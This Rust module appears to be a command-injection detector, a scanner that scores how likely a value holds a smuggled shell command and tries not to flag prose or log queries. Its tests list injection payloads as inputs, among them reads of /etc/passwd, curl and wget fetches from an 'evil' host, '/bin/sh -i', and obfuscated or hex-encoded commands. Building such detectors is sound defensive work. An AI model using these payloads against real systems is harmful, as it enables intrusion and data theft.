//! Shell commands behind a separator: `;id`, `|cat /etc/passwd`, `$(curl …)`, and with the quotes, backslashes and
//! `${IFS}` that hide a command's name from a search for words. Many commands are words of prose, so that those count
//! only with an argument that looks like one, or nothing behind them.

mod words;

use words::{COMMON, FAMILIES, MIN_OF_FAMILY, TELLING, WORDS, WRAPPERS};

/// A command found in a value.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(crate) struct Found {
    pub(crate) start: usize,
    pub(crate) end: usize,
    pub(crate) confidence: f32,
}

/// Most confidence of a command at the beginning of a line of text.
const IN_TEXT: f32 = 0.4;

/// Most confidence of a command in a piece of code within a text, or in a pattern.
const IN_SPAN: f32 = 0.6;
/// Fewest words around a piece of code within a text.
const SPAN_WORDS: usize = 2;
/// Texts between pieces of code that are searched for words.
const MAX_SPANS: usize = 8;
/// Longest name of a character reference.
const MAX_REFERENCE: usize = 10;

/// Bytes that a separator begins with.
const SEPARATORS: &[u8; 8] = b"$<>|&`;\n";

const SIGNS: [bool; 256] = {
    let mut signs = [false; 256];
    let mut at = 0;
    while at < SEPARATORS.len() {
        signs[SEPARATORS[at] as usize] = true;
        at += 1;
    }
    signs
};

/// Bytes that are walked for a command's name and looked at behind it.
const MAX_WALK: usize = 256;

/// Longest command name with its path and the characters that hide it.
const MAX_NAME: usize = 64;

/// The strongest sign of a command in `value`; what that took is added to `steps`.
pub(crate) fn find(value: &[u8], steps: &mut u64) -> Option<Found> {
    let mut best: Option<Found> = None;
    // A line end behind all of it makes no text.
    let lines = memchr::memchr_iter(b'\n', value.trim_ascii_end()).nth(1).is_some();
    let spans = memchr::memchr_iter(b'`', value).take(2).count();
    if let Some(found) = taken_apart(value).or_else(|| leading(value)) {
        best = Some(found);
    }
    *steps += value.len() as u64;
    for at in signs(value) {
        let Some((skip, sure)) = separator(value.get(at..).unwrap_or_default()) else { continue };
        if value.get(at) == Some(&b';') && ends_reference(value, at) {
            continue;
        }
        *steps += MAX_WALK as u64;
        // A value that begins with a separator goes on from something.
        let Some((end, confidence)) = command(value, at + skip, sure || at == 0) else { continue };
        let confidence = if is_prose(value, at, end) { confidence.min(IN_TEXT) } else { confidence };
        let quoted = value.get(at) == Some(&b'`') && at > 0 && is_code_word(value, at, end);
        let confidence = if quoted { confidence.min(IN_TEXT) } else { confidence };
        let confidence =
            if lines && value.get(at) == Some(&b'\n') { confidence.min(IN_TEXT) } else { confidence };
        let confidence = if is_filter(value, at, end) { confidence.min(IN_SPAN) } else { confidence };
        let confidence = if is_alternative(value, at, end) || spans > 1 && is_in_span(value, at) {
            confidence.min(IN_SPAN)
        } else {
            confidence
        };
        if best.is_none_or(|best| confidence > best.confidence) {
            best = Some(Found { start: at, end, confidence });
        }
    }
    best
}

/// Where separators may begin. Runs without any, nearly all of a text, are passed over by the processor's vectors.
fn signs(value: &[u8]) -> impl Iterator<Item = usize> {
    let (runs, rest) = value.as_chunks::<RUN>();
    let runs = runs.iter().enumerate().filter(|(_, run)| has_sign(run));
    runs.flat_map(move |(number, run)| signs_in(run, number * RUN))
        .chain(signs_in(rest, value.len() - rest.len()))
}

fn signs_in(run: &[u8], at: usize) -> impl Iterator<Item = usize> {
    let signs = run.iter().enumerate().filter(|(_, byte)| SIGNS[usize::from(**byte)]);
    signs.map(move |(number, _)| at + number)
}

/// Bytes that are passed over together.
const RUN: usize = 64;

fn has_sign(run: &[u8; RUN]) -> bool {
    let has = |sign: u8| run.iter().fold(0, |has, &byte| has | u8::from(byte == sign));
    SEPARATORS.iter().fold(0, |any, &sign| any | has(sign)) != 0
}

/// Whether the semicolon at `at` ends a character reference: `&lt;id&gt;`.
fn ends_reference(value: &[u8], at: usize) -> bool {
    let before = value.get(at.saturating_sub(MAX_REFERENCE)..at).unwrap_or_default();
    let name = before.iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'#').count();
    name > 1 && before.len().checked_sub(name + 1).and_then(|sign| before.get(sign)) == Some(&b'&')
}

/// Whether the bar at `at` stands between the words of a pattern: `(red|test)`.
fn is_alternative(value: &[u8], at: usize, end: usize) -> bool {
    let before = value.get(at.saturating_sub(MAX_NAME)..at).unwrap_or_default();
    let opened =
        before.iter().rev().find(|byte| !byte.is_ascii_alphanumeric() && **byte != b'|') == Some(&b'(');
    value.get(at) == Some(&b'|') && opened && matches!(value.get(end), Some(b')' | b'|'))
}

/// Commands that only pass on what they read; query languages of logs and tables have steps of these names.
const FILTERS: &[&[u8]] = &[b"head", b"join", b"last", b"sort", b"split", b"tail", b"top", b"uniq", b"wc"];

/// Whether a step of a pipe filters what comes from the left: `… | sort -count | head 5`. With a file, a redirection, a quote or another command
/// in it, it does more.
fn is_filter(value: &[u8], at: usize, end: usize) -> bool {
    let rest = value.get(at..end).unwrap_or_default();
    let piped = rest.starts_with(b"|") && !rest.starts_with(b"||") && at > 0;
    let name = rest.get(1..).unwrap_or_default().trim_ascii();
    let behind = value.get(end..).unwrap_or_default();
    let behind = behind.get(..MAX_WALK).unwrap_or(behind).split(|byte| *byte == b'|').next();
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b" _-=,()+*:".contains(byte);
    let spaced = at.checked_sub(1).and_then(|before| value.get(before)) == Some(&b' ');
    piped
        && spaced
        && FILTERS.iter().any(|known| known.eq_ignore_ascii_case(name))
        && behind.is_some_and(|behind| !behind.trim_ascii().is_empty() && behind.iter().all(plain))
}

/// Whether `at` lies in a piece of code that a text shows between backticks, with words around it.
fn is_in_span(value: &[u8], at: usize) -> bool {
    if is_fenced(value) {
        return true;
    }
    let ends = memchr::memchr(b'`', value).zip(memchr::memrchr(b'`', value));
    let Some((first, last)) = ends.filter(|(first, last)| (*first..=*last).contains(&at)) else {
        return false;
    };
    let word = |word: &&[u8]| {
        let letters = word.iter().filter(|byte| byte.is_ascii_alphabetic()).count();
        letters > 1 && word.iter().all(|byte| byte.is_ascii_alphabetic() || b",.:!?()'-*#[]".contains(byte))
    };
    let near =
        value.get(first.saturating_sub(MAX_WALK)..(last + MAX_WALK).min(value.len())).unwrap_or_default();
    // Behind every other backtick stands text again.
    let texts = near.split(|byte| *byte == b'`').step_by(2).take(MAX_SPANS);
    let words = texts.flat_map(|text| text.split(|byte| *byte == b' ')).filter(word);
    value.get(..first).is_some_and(|before| matches!(before, [] | [.., b' ' | b'[' | b'(']))
        && words.take(SPAN_WORDS).count() == SPAN_WORDS
}

/// Whether a value is nothing but a block of code as texts show it, between lines of three backticks.
fn is_fenced(value: &[u8]) -> bool {
    let text = value.trim_ascii();
    text.starts_with(b"```") && text.ends_with(b"\n```")
}

/// Whether a separator stands between words as in a sentence, with a word behind it that is no option's or path's command:
/// `table and chairs; cat & dog`.
fn is_prose(value: &[u8], at: usize, end: usize) -> bool {
    let mark = matches!(value.get(at), Some(b';' | b'&')) && value.get(at + 1) == Some(&b' ');
    let name = value.get(at + 2..end).unwrap_or_default();
    let mut lower = [0; MAX_NAME];
    let Some(lower) = lower.get_mut(..name.len()) else { return false };
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    if !mark || !WORDS.has(lower) {
        return false;
    }
    let before = value.get(at.saturating_sub(MAX_NAME)..at).unwrap_or_default().trim_ascii();
    let words =
        before.split(|byte| *byte == b' ').filter(|word| word.iter().any(u8::is_ascii_alphabetic)).count();
    let behind = value.get(end..).unwrap_or_default().trim_ascii_start();
    let told = matches!(behind, [b'-' | b'/' | b'.' | b'~', letter, ..] if !letter.is_ascii_whitespace());
    let shouted = name.iter().all(u8::is_ascii_uppercase);
    !told && (words >= 2 || shouted)
}

/// Whether the backtick at `at` opens a word of code in a text: "order by `id` in", which ends at `end`.
fn is_code_word(value: &[u8], at: usize, end: usize) -> bool {
    let before = at.checked_sub(1).and_then(|before| value.get(before));
    let word = value.get(at + 1..end).is_some_and(|word| WORDS.has(word));
    let near = value.get(at.saturating_sub(MAX_NAME)..at).unwrap_or_default();
    let text = near.iter().filter(|byte| **byte == b' ').count() > 1;
    before == Some(&b' ') && text && word && value.get(end) == Some(&b'`')
}

/// A whole value that is a command's name taken apart: `w'h'o'am'i`.
fn taken_apart(value: &[u8]) -> Option<Found> {
    let mark = |byte: u8| matches!(byte, b'\'' | b'"' | b'\\' | b'^');
    let inside = |three: &[u8]| matches!(three, [a, mid, b] if a.is_ascii_alphabetic() && mark(*mid) && b.is_ascii_alphabetic());
    let short = value.get(..MAX_NAME).unwrap_or(value);
    let end =
        short.iter().position(|&byte| !mark(byte) && !byte.is_ascii_alphanumeric()).unwrap_or(short.len());
    let word = value.get(..end)?;
    let mut name = [0; MAX_NAME];
    let letters = word.iter().copied().filter(|&byte| !mark(byte));
    let len = letters.clone().zip(&mut name).map(|(byte, slot)| *slot = byte.to_ascii_lowercase()).count();
    let apart = word.windows(3).any(inside) && TELLING.has(name.get(..len)?);
    apart.then_some(Found { start: 0, end, confidence: 0.8 })
}

/// A command that is the whole value: only with an option or path behind it.
fn leading(value: &[u8]) -> Option<Found> {
    let end =
        value.iter().take(MAX_NAME).position(|byte| matches!(byte, b' ' | b';' | b'|' | b'&' | b'<'))?;
    let name = value.get(..end)?;
    if value.get(end) != Some(&b' ') {
        let (end, _) = command(value, 0, true).filter(|_| is_telling(name) && value.len() < MAX_COMMAND)?;
        return Some(Found { start: 0, end, confidence: LEADING });
    }
    if WRAPPERS.has(name)
        && let Some(confidence) = wrapped(value.get(end..)?).filter(|_| value.len() < MAX_COMMAND)
    {
        return Some(Found { start: 0, end, confidence: confidence.min(0.75) });
    }
    let blank = end;
    let argument = value.get(blank + 1..)?.trim_ascii_start();
    let told = matches!(argument, [b'-', letter, ..] | [b'-', b'-', letter, ..] if letter.is_ascii_alphabetic())
        || matches!(argument, [b'/' | b'~' | b'$' | b'>', next, ..] if *next > b' ');
    let (end, confidence) = command(value, 0, false).filter(|_| told && value.len() < MAX_COMMAND)?;
    Some(Found { start: 0, end, confidence: confidence.min(LEADING) })
}

/// Longest value that is taken for a command as a whole.
const MAX_COMMAND: usize = 256;
/// Most confidence of a command without a separator in front of it.
const LEADING: f32 = 0.72;

/// Length of the separator that begins `rest`, and whether it hardly stands in prose.
fn separator(rest: &[u8]) -> Option<(usize, bool)> {
    match rest {
        [b'$', b'(', b'(', ..] => None,
        [b'$' | b'<' | b'>', b'(', ..] => Some((2, true)),
        [b'|', b'|', ..] | [b'&', b'&', ..] => Some((2, true)),
        [b'`' | b'|', ..] => Some((1, true)),
        [b';' | b'&' | b'\n', ..] => Some((1, false)),
        _ => None,
    }
}

/// The command at `at`: where it ends, and how sure it is one.
fn command(value: &[u8], at: usize, sure: bool) -> Option<(usize, f32)> {
    let lead = lead(value, at)?;
    let braced = value.get(at..at + lead)?.contains(&b'{');
    let start = at + lead;
    let separated = || start.checked_sub(1).and_then(|before| value.get(before)) == Some(&b';');
    if let Some(confidence) = unnamed(value.get(start..)?).filter(|_| sure || separated()) {
        return Some((start, confidence));
    }
    let Name { bytes, len, end: at, hidden, globbed } = Name::at(value, start)?;
    // `\w` is a letter of a pattern.
    if len == 0 || hidden && len < 2 || is_phrase(value, start, at) {
        return None;
    }
    let name = bytes.get(..len)?;
    let file = memchr::memrchr(b'/', name).map_or(name, |slash| name.get(slash + 1..).unwrap_or_default());
    let pathed = file.len() < name.len()
        && (name.starts_with(b"/bin")
            || name.starts_with(b"/usr")
            || name.starts_with(b"./")
            || name.starts_with(b"/sbin"));
    let behind = value.get(at..)?;
    let behind = behind.get(..MAX_WALK).unwrap_or(behind);
    // `data:image/png;base64,…`
    if file == b"base64" && behind.starts_with(b",") {
        return None;
    }
    if WRAPPERS.has(file)
        && let Some(wrapped) = wrapped(behind)
    {
        return Some((at, wrapped));
    }
    let (telling, word) = (is_telling(file), WORDS.has(file));
    if globbed && name.starts_with(b"/") && len > 4 {
        return Some((at, 0.8));
    }
    if !telling && !word {
        return None;
    }
    let confidence = confidence(behind, telling, sure || braced, pathed || hidden)?;
    let bare =
        behind.trim_ascii().is_empty() || behind.first().is_some_and(|byte| matches!(byte, b'|' | b';'));
    let listed = bare && !pathed && !hidden && COMMON.has(file);
    let word = value.get(start..at).unwrap_or_default();
    let titled = !telling && is_title(word.strip_prefix(b"\"").unwrap_or(word));
    Some((at, if listed || titled { confidence.min(IN_TEXT) } else { confidence }))
}

/// Whether the quote at `start` opens a phrase of several words, of which the first ends at `end`: no command has such a name.
fn is_phrase(value: &[u8], start: usize, end: usize) -> bool {
    let Some(quote) = value.get(start).filter(|byte| matches!(byte, b'"' | b'\'')) else { return false };
    let word = value.get(start + 1..end).unwrap_or_default();
    let behind = value.get(end..).unwrap_or_default();
    let behind = behind.get(..MAX_WALK).unwrap_or(behind);
    !word.contains(quote) && behind.first() == Some(&b' ') && behind.contains(quote)
}

/// Length of what may stand between a separator and a command.
fn lead(value: &[u8], at: usize) -> Option<usize> {
    // A plus sign may be a blank of a form; at the beginning of a line it marks what a patch adds.
    let spaces = at.checked_sub(1).and_then(|before| value.get(before)) != Some(&b'\n');
    let passed = |byte: &&u8| {
        matches!(byte, b' ' | b'\t' | b'{' | b'(' | b'\r' | b'\n' | b'@') || **byte == b'+' && spaces
    };
    Some(value.get(at..)?.iter().take(8).take_while(passed).count())
}

/// A command's name as a shell reads it.
struct Name {
    /// In lower case, without what hides it.
    bytes: [u8; MAX_NAME],
    len: usize,
    /// Where it ends in the value.
    end: usize,
    /// Whether quotes, backslashes or empty variables stood in it.
    hidden: bool,
    globbed: bool,
}

impl Name {
    /// The one at `start`; `None` if it is longer than names are.
    fn at(value: &[u8], start: usize) -> Option<Self> {
        let mut name = Self { bytes: [0; MAX_NAME], len: 0, end: start, hidden: false, globbed: false };
        while let Some(&byte) = value.get(name.end).filter(|_| name.end < start + MAX_WALK) {
            match byte {
                b'\'' | b'"' | b'\\' | b'^' => name.hidden = true,
                b'$' if empty_variable(value.get(name.end + 1..)) > 0 => {
                    name.hidden = true;
                    name.end += empty_variable(value.get(name.end + 1..));
                }
                _ if is_of_name(byte) => {
                    *name.bytes.get_mut(name.len)? = byte.to_ascii_lowercase();
                    name.len += 1;
                    name.globbed |= byte == b'?' || byte == b'*';
                }
                _ => break,
            }
            name.end += 1;
        }
        Some(name)
    }
}

fn is_of_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'-' | b'_' | b'?' | b'*' | b'[' | b']')
}

/// Whether a word is written as in a title: `Java`.
fn is_title(word: &[u8]) -> bool {
    matches!(word, [first, rest @ ..] if first.is_ascii_uppercase()
        && !rest.is_empty()
        && rest.iter().all(u8::is_ascii_lowercase))
}

/// Length of a variable's name that a shell puts nothing for: `$@`, `$1`, `$u` in front of what is no letter.
fn empty_variable(behind: Option<&[u8]>) -> usize {
    match behind {
        Some([b'@' | b'*' | b'1'..=b'9' | b'_' | b'$', ..]) => 1,
        Some([b'a'..=b'z', next, ..]) if !next.is_ascii_alphanumeric() && *next != b'_' => 1,
        Some([b'(', b')', ..]) => 2,
        _ => 0,
    }
}

/// Whether a name is hardly a word, with its version or without it: `python3.10`, `gcc-12`.
fn is_telling(name: &[u8]) -> bool {
    let digits = |byte: &&u8| byte.is_ascii_digit() || matches!(**byte, b'.' | b'-');
    let version = name.iter().rev().take_while(digits).count();
    let bare = name.get(..name.len() - version).unwrap_or_default();
    let versioned = version > 0 && bare.len() > 2 && (TELLING.has(bare) || bare == b"python");
    TELLING.has(name) || versioned || is_of_family(name)
}

/// Whether a name goes on behind the beginning that a family of commands shares.
fn is_of_family(name: &[u8]) -> bool {
    let goes_on = |start: &&str| {
        name.strip_prefix(start.as_bytes()).is_some_and(|rest| rest.len() > 2 && rest.is_ascii())
    };
    name.len() >= MIN_OF_FAMILY && FAMILIES.iter().any(goes_on)
}

/// Commands that tell who and where one is: without an argument they are what is tried first.
const IDENTITY: &[&[u8]] = &[b"env", b"id", b"ls", b"ps", b"pwd"];

/// How sure what stands behind `time`, `sudo` and their kin is a command: `time sh -c id`.
fn wrapped(behind: &[u8]) -> Option<f32> {
    let mut words = behind.split(|byte| *byte <= b' ').filter(|word| !word.is_empty()).take(3).peekable();
    if behind.first().is_none_or(|byte| *byte > b' ') {
        return None;
    }
    while words.next_if(|word| word.starts_with(b"-") || word.contains(&b'=')).is_some() {}
    let word = words.next()?;
    let name = word.split(|byte| matches!(byte, b';' | b'|' | b'&')).next()?;
    let next = words.next();
    let option = next.is_some_and(|next| next.starts_with(b"-") || next.starts_with(b"/"));
    if is_telling(name) {
        return Some(0.85);
    }
    if next.is_none() && IDENTITY.contains(&name) {
        return Some(0.72);
    }
    (WORDS.has(name) && (option || name == b"sh")).then_some(0.78)
}

/// How sure a command without a name of its own is one: letters written as numbers, the shell itself by its variable, a file that is read.
fn unnamed(rest: &[u8]) -> Option<f32> {
    if matches!(rest, [b'$', b'\'', b'\\', b'x' | b'u' | b'U' | b'0'..=b'7', digit, ..] if digit.is_ascii_hexdigit())
    {
        return Some(0.85);
    }
    let shells = [&b"$0"[..], b"$SHELL", b"${SHELL}", b"$BASH", b"${BASH}"];
    let variable = rest.first() == Some(&b'$');
    let behind = shells.iter().filter(|_| variable).find_map(|shell| rest.strip_prefix(*shell));
    if behind.is_some_and(|behind| matches!(behind, [b'<', b'<' | b'(', ..] | [b' ', b'-', ..])) {
        return Some(0.85);
    }
    matches!(rest, [b'.', b' ', b'/' | b'~', next, ..] if next.is_ascii_alphanumeric()).then_some(0.75)
}

/// How sure a known name is a command, by what stands behind it.
fn confidence(behind: &[u8], telling: bool, sure: bool, dressed: bool) -> Option<f32> {
    let argument = match behind {
        [] => true,
        // Commas and single signs with a blank behind them stand in sentences.
        [b',' | b'&', b' ', ..] | [b' ', b'&', b' ', ..] => false,
        [b' ' | b'\t' | b'+', tail @ ..] => {
            looks_like_argument(tail.trim_ascii_start()) || sure && writes_file(tail)
        }
        [
            b'$' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')' | b'\n' | b'\r' | b',' | b'#' | b'%'
            | b'\'' | b'"' | b'}',
            ..,
        ] => true,
        [b'=' | b':' | b'(', ..] => return None,
        _ => false,
    };
    let bare = behind.is_empty() || behind.starts_with(b" ") && behind.trim_ascii().is_empty();
    Some(match (telling, dressed, argument, sure) {
        (_, true, true, _) => 0.9,
        (true, _, true, _) => 0.88,
        (true, _, false, true) => 0.75,
        (true, _, false, false) => 0.5,
        (false, _, true, true) if bare => 0.75,
        (false, _, true, true) => 0.8,
        (false, _, true, false) if bare => 0.7,
        (false, _, true, false) => 0.72,
        (_, true, false, _) => 0.7,
        _ => 0.3,
    })
}

/// Whether what stands behind a command goes into a file: `echo x > /tmp/x`.
fn writes_file(tail: &[u8]) -> bool {
    let own = tail.split(|byte| matches!(byte, b';' | b'|' | b'&' | b'\n')).next().unwrap_or_default();
    memchr::memrchr(b'>', own).is_some_and(|at| {
        let path = own.get(at + 1..).unwrap_or_default().trim_ascii_start();
        matches!(path, [b'/' | b'~' | b'$', next, ..] if next.is_ascii_alphabetic())
    })
}

/// Options, paths, numbers, redirections, addresses, variables.
fn looks_like_argument(text: &[u8]) -> bool {
    let word = text.split(|byte| *byte <= b' ').next().unwrap_or_default();
    match word {
        [] => true,
        [b'-', letter, ..] => letter.is_ascii_alphanumeric() || *letter == b'-',
        [b'/' | b'$' | b'>' | b'<' | b'|' | b'~' | b'*' | b';' | b'&' | b'\'' | b'"' | b'.' | b'%', ..] => {
            true
        }
        [b'0'..=b'9', ..] | b"aux" | b"auxf" | b"auxw" | b"auxww" => true,
        b"#" => text.len() == 1,
        [b'+', b'x' | b'r' | b'w' | b'X' | b'R' | b'W', ..] => true,
        _ => {
            let path = word.contains(&b'/') || memchr::memmem::find(word, b"..").is_some();
            path || word.contains(&b':') && word.len() > 2 && !word.ends_with(b":")
                || word.contains(&b'.') && !word.ends_with(b".") && word.len() > 4
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn confidence(value: &str) -> f32 {
        find(value.as_bytes(), &mut 0).map_or(0.0, |found| found.confidence)
    }

    #[test]
    fn commands() {
        for value in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x;id",
            "$(curl http://evil/x)",
            "`whoami`",
            "a && wget http://evil/x",
            ";c''at${IFS}/e?c/p*d",
            ";{cat,/etc/passwd}",
            "\nid",
            "| /bin/sh -i",
            "a;c\\at /etc/hosts",
            "x & ping -c 5 10.0.0.1",
            "|| sleep 5",
            "w'h'o'am'i",
            "time sh -c id",
            "x; cu$@rl http://e/",
            ";/???/c?t /etc/x",
            "please `rm -rf x`",
            "\nwhoami\n",
            ";echo test > /tmp/x",
            ";reboot",
            "a;reboot",
            ";shutdown -h now",
            ";id #",
            ";eval id",
            ";. /tmp/x",
            ";$'\\x69\\x64'",
            "|$'\\151\\144'",
            ";$0<<<id",
            "x; ps aux",
            "+|+dir+c:+|",
        ] {
            assert!(confidence(value) >= 0.7, "{value}: {}", confidence(value));
        }
    }

    #[test]
    fn prose_and_code() {
        for value in [
            "Tom & Jerry; find the cat",
            "you & who else",
            "red; sort of blue | more or less",
            "a=1&id=5&type=x",
            "http://x/?a=b&id=7",
            "cats; dogs",
            "$5 (five) `quoted`",
            "AT&T; date night",
            "C++ || Java && Python",
            "red|blue|more",
            "(\\d{3})-(\\d{4}) | \\w+@\\w+\\.com",
            "test;test",
            "&lt;b&gt;",
            "on; shutdown in an hour",
            "the end. / the start",
            "costs $0; . ~ end",
            "x; time id est",
            "reap or harvest; \"cut grain\"",
            "a\n+date",
            "fn eq(&self, other: &Id) -> bool",
        ] {
            assert!(confidence(value) < 0.5, "{value}: {:?}", find(value.as_bytes(), &mut 0));
        }
    }

    #[test]
    fn code_in_a_sentence_is_shown() {
        let value = "Use `ls -la | grep foo` to list, then `rm -rf node_modules && npm install`";
        assert!(confidence(value) <= IN_SPAN, "{}", confidence(value));
        let value = "The [`git ref`](https://docs.example/refs) that this request is about";
        assert!(confidence(value) <= IN_SPAN, "{}", confidence(value));
    }

    #[test]
    fn steps_of_query_languages_and_of_attacks() {
        for value in [
            "index=web error | stats count by host | sort - count | head 5",
            "StormEvents | where State | top 5 by count_ | sort by count_ desc",
            "source=app | table user | dedup user | tail 3",
        ] {
            assert!(confidence(value) < 0.7, "{value}: {:?}", find(value.as_bytes(), &mut 0));
        }
        for value in [
            "x | head /etc/passwd",
            "x | head config.php",
            "x | tail -n 5 ../a",
            "x | sort $HOME",
            "x|sort -u",
            "a | sort -u; id",
        ] {
            assert!(confidence(value) >= 0.7, "{value}: {:?}", find(value.as_bytes(), &mut 0));
        }
    }

    #[test]
    fn any_bytes_end() {
        let bytes: Vec<u8> = (0..=255).cycle().take(4096).collect();
        find(&bytes, &mut 0);
        find(";".repeat(50_000).as_bytes(), &mut 0);
        find(";$@".repeat(20_000).as_bytes(), &mut 0);
    }
}
